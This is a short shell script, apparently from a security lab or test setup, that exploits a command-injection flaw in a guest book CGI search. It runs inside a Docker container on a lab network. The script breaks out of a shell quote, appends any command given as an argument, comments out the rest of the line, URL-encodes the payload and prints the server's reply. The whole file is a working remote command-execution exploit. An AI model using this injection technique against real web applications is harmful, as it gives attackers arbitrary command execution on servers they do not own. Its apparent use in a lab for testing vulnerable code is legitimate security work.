#!/bin/sh
# A visitor who has found the hole in the search: sends COMMAND through it and prints what comes back.
# usage: sh attack.sh 'COMMAND'
exec docker run --rm --network "$LAB_NET" -e "SITE=$LAB_WEB" -e "COMMAND=$1" "$LAB_BASE" sh -c '
  port=8080
  timeout 5 wget -q -O /dev/null "http://$SITE:$port/" 2> /dev/null || port=80
  encode() { od -An -v -tx1 | tr -d " \n" | sed "s/../%&/g"; }
  # Ends the quote that the guest book opened, adds COMMAND, and makes a comment of the rest of the line.
  word=$(printf %s "x'\'' /dev/null; { $COMMAND; } 2>&1 #" | encode)
  timeout 5 wget -q -O - "http://$SITE:$port/cgi-bin/guestbook?search=$word"'
